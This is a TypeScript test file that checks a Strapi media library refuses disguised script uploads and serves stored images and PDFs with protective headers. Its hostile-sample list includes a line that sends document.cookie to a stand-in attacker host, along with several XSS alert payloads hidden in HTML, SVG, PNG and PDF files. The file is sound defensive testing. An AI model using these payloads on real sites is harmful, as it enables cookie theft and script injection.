import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { MEDIA_TYPE_REFUSED } from '../src/lib/media-types';
import { UPLOADS_POLICY } from '../src/middlewares/uploads-headers';
import { api, server, useStrapi } from './support/strapi-server';

/**
 * The media library takes images and PDF documents, told by their bytes; whatever else an editor (or
 * a stolen editor's password) sends is refused in French, through the panel and the REST API alike.
 * What it holds is served so that no browser runs it.
 */
useStrapi();

let editor: string;
let png: Buffer;
let gif: Buffer;
const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');

beforeAll(async () => {
  const login = await api.post('/admin/login', { email: 'editeur@example.be', password: 'Brocante-2027' });
  expect(login.status).toBe(200);
  editor = login.body.data.token ?? login.body.data.accessToken;
  const square = sharp({ create: { width: 8, height: 8, channels: 3, background: '#2f7d57' } });
  png = await square.clone().png().toBuffer();
  gif = await square.clone().gif().toBuffer();
});

/** A multipart upload as the panel's media library (or a REST client) sends it. */
async function upload(path: string, file: { bytes: Buffer | string; name: string; type: string }, token?: string) {
  const form = new FormData();
  form.append('files', new Blob([file.bytes], { type: file.type }), file.name);
  form.append('fileInfo', JSON.stringify({ name: file.name }));
  const response = await fetch(server.url + path, {
    method: 'POST',
    headers: token ? { authorization: `Bearer ${token}` } : {},
    body: form,
  });
  return { status: response.status, body: await response.json() };
}

const HOSTILE = [
  { name: 'x.js', type: 'text/javascript', bytes: 'fetch("https://attaquant.example/?" + document.cookie)' },
  { name: 'page.html', type: 'text/html', bytes: '<!doctype html><script>alert(document.domain)</script>' },
  {
    name: 'logo.svg',
    type: 'image/svg+xml',
    bytes: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
  },
  // A name and a declared type say nothing: the bytes are a script.
  { name: 'photo.png', type: 'image/png', bytes: 'alert(document.domain)' },
  { name: 'tableau.pdf', type: 'application/pdf', bytes: '<html><script>alert(1)</script></html>' },
];

describe('the media library', () => {
  it.each(HOSTILE)('refuses $name ($type) from the panel, in French, and stores nothing', async (file) => {
    const before = await server.strapi.db.query('plugin::upload.file').count();
    const refused = await upload('/upload', file, editor);
    expect(refused.status).toBe(400);
    expect(refused.body.error.message).toBe(MEDIA_TYPE_REFUSED);
    expect(await server.strapi.db.query('plugin::upload.file').count()).toBe(before);
  });

  it('takes no file through the REST API, even with a token allowed to upload (JSON only: request-guard)', async () => {
    const before = await server.strapi.db.query('plugin::upload.file').count();
    expect((await upload('/api/upload', HOSTILE[0])).status).toBe(415);
    const token = await server.strapi
      .service('admin::api-token')
      .create({ name: 'Import', description: '', type: 'full-access', lifespan: null });
    for (const file of HOSTILE) expect((await upload('/api/upload', file, token.accessKey)).status, file.name).toBe(415);
    expect(await server.strapi.db.query('plugin::upload.file').count()).toBe(before);
  });

  it('keeps an image, served as an image that is never sniffed, sandboxed and shown inline', async () => {
    const stored = await upload('/upload', { name: 'rue.png', type: 'image/png', bytes: png }, editor);
    expect(stored.status).toBe(201);
    const [file] = stored.body;
    expect(file.url).toMatch(/^\/uploads\/rue_\w+\.png$/);
    const served = await fetch(server.url + file.url);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toBe(UPLOADS_POLICY);
    expect(served.headers.get('content-disposition')).toBe('inline');
  });

  it('stores a GIF named x.js as a .gif: the checked type names the file, not the name it came with', async () => {
    const stored = await upload('/upload', { name: 'x.js', type: 'text/javascript', bytes: gif }, editor);
    expect(stored.status).toBe(201);
    const [file] = stored.body;
    expect(file.url).toMatch(/\.gif$/);
    expect(file.mime).toBe('image/gif');
    const served = await fetch(server.url + file.url);
    expect(served.headers.get('content-type')).toBe('image/gif');
  });

  it('keeps a PDF, served to be downloaded rather than opened on the site', async () => {
    const stored = await upload('/upload', { name: 'reglement.pdf', type: 'application/pdf', bytes: pdf }, editor);
    expect(stored.status).toBe(201);
    const served = await fetch(server.url + stored.body[0].url);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('application/pdf');
    expect(served.headers.get('content-disposition')).toBe('attachment');
    expect(served.headers.get('content-security-policy')).toBe(UPLOADS_POLICY);
  });
});
